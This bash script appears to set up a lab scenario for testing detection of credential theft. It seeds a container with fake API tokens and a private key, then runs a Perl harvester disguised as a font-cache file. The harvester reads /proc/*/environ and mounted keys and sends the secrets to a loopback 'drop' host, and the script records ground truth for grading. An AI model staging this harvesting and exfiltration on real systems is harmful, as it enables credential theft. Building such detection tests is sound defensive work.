#!/bin/bash
# Scenario secretsenv: secrets found by their format and sent out. The workload (pid 1) runs
# with a Stripe key (sk_live_...), a GitHub token (ghp_...), a Slack bot token (xoxb-...), an
# AWS key pair and a service JWT in its environment, and a PEM private key mounted under /srv.
# Later a Perl harvester reads /proc/*/environ and /srv, picks out every secret by its format
# and sends them, after a survey of the host, over raw TCP to 127.107.x.y; the receiver never
# reads, so the secrets wait in the container's send queue (and in the harvester's memory).
# Usage: lab/scenarios/secretsenv.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init secretsenv "$@"

DROP="$(lab_addr 107):$(lab_port 30000 60000)"
CAMPAIGN=$(lab_hex 4)
HARVESTER=/usr/local/share/fonts/.fc-update
lab_host_dir KEYS keys
"$LAB_PY" "$LAB_DIR/lib/fakedata.py" secrets "$WORK/sec" --namespace shop --sa checkout >/dev/null || lab_die "fakedata failed"
V=$WORK/sec/values.json
cp "$WORK/sec/rsa_key.pem" "$KEYS/signing.pem"
lab_template "$SPEC/fc-update.pl" "$WORK/fc-update.pl" "DROP=$DROP" "CAMPAIGN=$CAMPAIGN"

lab_peer_on drop "$DROP" perl "$PEERS/sink.pl" --listen "$DROP" --read none --rcvbuf 2048 --summary "$WORK/peer-drop.json"

lab_run --env APP_ENV=prod \
    --env "STRIPE_SECRET_KEY=$(lab_json_pick "$V" stripe_key)" \
    --env "GITHUB_TOKEN=$(lab_json_pick "$V" github_token)" \
    --env "SLACK_BOT_TOKEN=$(lab_json_pick "$V" slack_token)" \
    --env "AWS_ACCESS_KEY_ID=$(lab_json_pick "$V" aws_access_key_id)" \
    --env "AWS_SECRET_ACCESS_KEY=$(lab_json_pick "$V" aws_secret_access_key)" \
    --env "ORDERS_API_TOKEN=$(lab_json_pick "$V" jwt)" \
    -v "$KEYS:/srv/checkout/keys:ro" \
    --hostname checkout -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/fc-update.pl" "$HARVESTER" 0755
lab_exec_bg "perl $HARVESTER"
lab_wait "the drop connection is open" 15 lab_json "$WORK/peer-drop.json" 'd["sessions"]'
lab_wait_txq "$DROP" 10000 20

lab_finish "$HARVESTER" /srv/checkout/keys/signing.pem

lab_kv_json "$WORK/params.json" "drop=$DROP" "campaign=$CAMPAIGN" "harvester_path=$HARVESTER" \
    "secret_sources:=$(lab_json_list /proc/1/environ /srv/checkout/keys/signing.pem)" \
    "secrets:=$(lab_json_pick "$V" stripe_key github_token slack_token aws_access_key_id aws_secret_access_key jwt rsa_key_sha256)" \
    "env_names:=$(lab_json_list STRIPE_SECRET_KEY GITHUB_TOKEN SLACK_BOT_TOKEN AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY ORDERS_API_TOKEN)"
lab_facts --conn "harvester=$DROP"
lab_truth --description "secret harvester: perl $HARVESTER sends a host survey and the Stripe/GitHub/Slack/AWS/JWT/PEM secrets it found in /proc/*/environ and /srv to $DROP, which never reads" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
